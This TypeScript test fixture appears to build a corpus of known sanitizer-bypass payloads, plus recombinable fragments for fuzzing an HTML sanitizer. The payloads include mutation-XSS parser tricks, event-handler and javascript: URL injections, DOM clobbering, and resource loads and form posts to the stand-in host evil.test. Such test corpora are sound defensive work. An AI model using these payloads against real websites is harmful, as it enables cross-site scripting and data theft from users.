const mutations = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template><template shadowrootmode=open><script>alert(1)</script></template>',
  '<select><iframe></select><img src=x onerror=alert(1)>',
  '<select><style></select></style><svg onload=alert(1)>',
  '<svg><foreignObject><body onload=alert(1)><img src=x onerror=alert(1)></foreignObject></svg>',
  '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=alert(1)>">',
  '<math><annotation-xml encoding="text/html"><style></math><img src onerror=alert(1)></style>',
  '<xmp><p title="</xmp><svg/onload=alert(1)>">',
  '<textarea></textarea><script>alert(1)</script></textarea>',
  '<title></title><img src=x onerror=alert(1)></title>',
  '<table><td><svg><style><img src=x onerror=alert(1)></style></svg></table>',
  '<p><table><p><math><mi><img src=x onerror=alert(1)>',
  '<listing>&lt;img onerror=alert(1) src=x&gt;</listing>',
  '<plaintext><img src=x onerror=alert(1)>',
];

const scripts = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img/src=`x`onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script href="data:,alert(1)"/></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)>#x">',
  '<body onload=alert(1)><p onclick=alert(1) onmouseover=alert(1)>甲</p>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>甲</details>',
  '<input autofocus onfocus=alert(1)><marquee onstart=alert(1)>甲</marquee>',
  '<p style="animation:x" onanimationstart=alert(1)>甲</p>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<x-element onclick=alert(1)>甲</x-element><p is="x-element">乙</p>',
  '<math href="javascript:alert(1)"><mi>甲</mi></math>',
];

const addresses = [
  '<a href="javascript:alert(1)">甲</a>',
  '<a href="java\tscript:alert(1)">甲</a>',
  '<a href="\u0001javascript:alert(1)">甲</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">甲</a>',
  '<a href=" &NewLine;javascript&Tab;:alert(1)">甲</a>',
  '<a href="data:text/html,<script>alert(1)</script>">甲</a>',
  '<a href="https://evil.test/" ping="https://evil.test/ping" target=_blank>甲</a>',
  '<a href="#甲" xlink:href="javascript:alert(1)">甲</a><p id=甲>乙</p>',
  '<img src="https://evil.test/pixel.gif" srcset="https://evil.test/2x 2x" sizes=100vw>',
  '<picture><source srcset="https://evil.test/a"><img src=a.jpg loading=eager></picture>',
  '<img src="//evil.test/a"><img src="\\\\evil.test\\a"><img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>"><img lowsrc=https://evil.test/a dynsrc=https://evil.test/b>',
  '<img src="a.jpg" style="background:url(https://evil.test/a)" crossorigin onerror=alert(1)>',
  '<table background="https://evil.test/a"><td background="https://evil.test/b">甲</table>',
  '<style>@import "https://evil.test/a.css";*{background:url(https://evil.test/b)}</style>',
  '<link rel=stylesheet href="https://evil.test/a.css"><link rel=prefetch href="https://evil.test/b">',
  '<base href="https://evil.test/"><meta http-equiv=refresh content="0;url=https://evil.test/">',
  '<form action="https://evil.test/"><button formaction="javascript:alert(1)">甲</button><input type=image src=https://evil.test/a></form>',
  '<form><form><input name=action></form></form>',
  '<video poster="https://evil.test/a" src="https://evil.test/b" autoplay></video><track src=https://evil.test/c>',
];

const clobbers = [
  '<a id=chapterPage></a><img name=body id=documentElement><form id=cookie name=cookie><input name=attributes></form>',
  '<form name=document><input name=createElement><input name=querySelector></form>',
  '<a id=x><a id=x name=y href="clobber:1">甲</a></a><p id=root class=screen slot=a>乙</p>',
  '<form><input name=nodeName><input name=removeChild><input name=textContent>甲</form>',
  '<p data-paragraph=0 data-from=3 data-aside aria-label=甲 role=alert hidden inert contenteditable>甲</p>',
];

const broken = [
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<!doctype html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
  '<?xml-stylesheet href="javascript:alert(1)"?><img src=x onerror=alert(1)//',
  '<p title="`<img src=x onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src="x" alt="``onerror=alert(1)"><IMG SRC=x ONERROR=alert(1)>',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<td colspan=99999 rowspan="1 onload=alert(1)">甲</td><table><td colspan=-1 rowspan=1e9>乙</table>',
  '<b>'.repeat(2_000),
  `${'<div>'.repeat(600)}<img src=x onerror=alert(1)>甲`,
];

/** Published ways to bypass sanitizers, and attacks on the site's own parsing. */
export const attacks: readonly string[] = [...mutations, ...scripts, ...addresses, ...clobbers, ...broken];

/** Fragments of the attacks, whose random combinations may form new ones. */
export const attackPieces: readonly string[] = [
  ...new Set(attacks.filter((text) => text.length < 1_000).flatMap((text) => text.split(/(?=<)|(?<=>)/))),
];
